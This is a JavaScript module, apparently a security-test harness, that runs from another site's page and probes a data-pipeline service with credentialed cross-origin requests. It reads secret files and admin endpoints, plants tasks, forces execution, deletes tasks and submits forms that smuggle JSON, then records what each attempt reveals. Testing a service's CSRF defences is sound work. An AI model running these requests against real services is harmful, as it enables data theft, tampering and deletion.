/**
 * Runs inside the page of another site: everything a page can send without being asked, at one service. Plain JavaScript
 * that needs nothing around it, since a browser gets its text. Answers with each attempt and what it could read; what
 * stands in brackets is a page's only knowledge, that something came or nothing did.
 */
module.exports.attack = async function attack({ service, task, patienceMs, requestsOnly }) {
  const { AbortSignal, Blob, document, EventSource, fetch, File } = globalThis;
  const { FormData, navigator, setTimeout, URLSearchParams, WebSocket } = globalThis;
  const api = `${service}/api/v0`;
  const tasks = `${api}/data_pipeline/tasks`;
  const attempts = [];
  const note = (how, read) =>
    attempts.push({
      how,
      read: String(read ?? ''),
    });
  const within = (work) =>
    Promise.race([work, new Promise((resolve) => setTimeout(() => resolve('(silence)'), patienceMs))]);
  const reads = [tasks, `${tasks}/${task}`, `${tasks}/${task}/files`, `${tasks}/${task}/files/secret.md`]
    .concat(`${tasks}/${task}/events`, `${tasks}/${task}/logs`, `${api}/training_data/stats`)
    .concat(
      `${service}/metrics`,
      `${service}/openapi.json`,
      `${service}/docs/`,
      `${service}/docs/openapi.json`,
    )
    .concat(`${service}/admin/queues`, `${service}/admin/queues/api/queues`, `${service}/health/ready`);
  const form = () => {
    const data = new FormData();
    data.append('file', new File(['# planted'], 'planted.md'));
    data.append('task_name', 'planted');
    return data;
  };
  const planted = '{"task_name":"planted"}';
  const row = '{"data":{"training_data_type":"documentation","content":"planted"}}';
  const writes = [
    ['POST', tasks, undefined],
    ['POST', tasks, planted],
    ['POST', tasks, planted, 'text/plain'],
    ['POST', tasks, planted, 'application/json'],
    [
      'POST',
      tasks,
      new URLSearchParams({
        task_name: 'planted',
      }),
    ],
    ['POST', tasks, form()],
    ['POST', `${tasks}/${task}/files`, form()],
    ['POST', `${tasks}/${task}/upload-table-list`, form()],
    ['POST', `${tasks}/${task}/cancel`, undefined],
    ['POST', `${tasks}/${task}/execute`, '{"execution_mode":"complete","force":true}', 'application/json'],
    ['POST', `${api}/training_data/create`, row, 'application/json'],
    ['POST', `${api}/training_data/query`, '{}', 'text/plain'],
    ['POST', `${api}/database/tables`, undefined],
    ['PATCH', `${tasks}/${task}`, planted, 'application/json'],
    [
      'DELETE',
      tasks,
      JSON.stringify({
        task_ids: [task],
        confirm: true,
      }),
      'application/json',
    ],
    ['PUT', `${service}/admin/queues/api/queues/pause`, undefined],
  ];
  const send = async (method, url, mode, body, type) => {
    try {
      const answer = await fetch(url, {
        ...{
          method,
          mode,
          credentials: 'include',
          ...(body !== undefined && {
            body,
          }),
        },
        headers: type
          ? {
              'Content-Type': type,
            }
          : {},
        signal: AbortSignal.timeout(patienceMs),
      });
      note(`${mode} ${method} ${url}`, answer.ok ? await answer.text() : `(${answer.type} ${answer.status})`);
    } catch (error) {
      note(`${mode} ${method} ${url}`, `(${error.name})`);
    }
  };
  await Promise.all([
    ...reads.flatMap((url) => ['cors', 'no-cors'].map((mode) => send('GET', url, mode))),
    ...writes.flatMap(([method, url, body, type]) =>
      ['cors', 'no-cors'].map((mode) => send(method, url, mode, body, type)),
    ),
  ]);
  if (requestsOnly) return attempts;

  navigator.sendBeacon(
    tasks,
    new Blob([planted], {
      type: 'text/plain',
    }),
  );
  navigator.sendBeacon(`${tasks}/${task}/files`, form());

  // Elements that load: did it load, and what of it can be seen?
  const element = (tag, set) =>
    within(
      new Promise((resolve) => {
        const made = document.createElement(tag);
        made.onload = () => {
          let seen = '(loaded)';
          try {
            seen = made.contentDocument?.body?.innerText || seen;
          } catch (error) {
            seen = `(${error.name})`;
          }
          resolve(seen);
        };
        made.onerror = () => resolve('(error)');
        set(made);
        document.body.append(made);
      }),
    );
  for (const tag of ['img', 'script', 'iframe', 'embed', 'video'])
    note(`${tag} of a task`, await element(tag, (made) => (made.src = `${tasks}/${task}`)));
  note(
    'stylesheet',
    await element('link', (made) =>
      Object.assign(made, {
        rel: 'stylesheet',
        href: tasks,
      }),
    ),
  );
  note('object', await element('object', (made) => (made.data = `${tasks}/${task}/files/secret.md`)));
  for (const url of [`${service}/docs/`, `${service}/admin/queues`, `${tasks}/${task}/logs`])
    note(`frame of ${url}`, await element('iframe', (made) => (made.src = url)));
  const sandboxed = `<script>fetch('${tasks}',{method:'POST',mode:'no-cors',headers:{'Content-Type':'text/plain'},body:'{}'})</script>`;
  note(
    'sandboxed frame',
    await element('iframe', (made) =>
      Object.assign(made, {
        sandbox: 'allow-scripts',
        srcdoc: sandboxed,
      }),
    ),
  );
  // A form needs nobody's leave; its answer goes into a frame.
  for (const enctype of ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded'])
    for (const target of [tasks, `${tasks}/${task}/files`, `${api}/training_data/upload`]) {
      const frame = Object.assign(document.createElement('iframe'), {
        name: `frame-${Math.random()}`,
      });
      const sent = Object.assign(document.createElement('form'), {
        method: 'post',
        action: target,
        enctype,
        target: frame.name,
      });
      const field = Object.assign(document.createElement('input'), {
        name: '{"task_name":"planted","x":"',
        value: '"}',
      });
      sent.append(field);
      document.body.append(frame, sent);
      const loaded = new Promise((resolve) => (frame.onload = () => resolve('(loaded)')));
      sent.submit();
      note(`form ${enctype} ${target}`, await within(loaded));
    }
  note(
    'EventSource',
    await within(
      new Promise((resolve) => {
        const source = new EventSource(`${tasks}/${task}/events`);
        for (const name of ['message', 'status', 'log'])
          source.addEventListener(name, (event) => resolve(String(event.data)));
        source.onopen = () => resolve('open');
        source.onerror = () => resolve('(error)');
      }),
    ),
  );
  note(
    'WebSocket',
    await within(
      new Promise((resolve) => {
        const socket = new WebSocket(`${tasks.replace('http', 'ws')}/${task}/events`);
        socket.onopen = () => resolve('open');
        socket.onmessage = ({ data }) => resolve(String(data));
        socket.onerror = () => resolve('(error)');
      }),
    ),
  );
  return attempts;
};
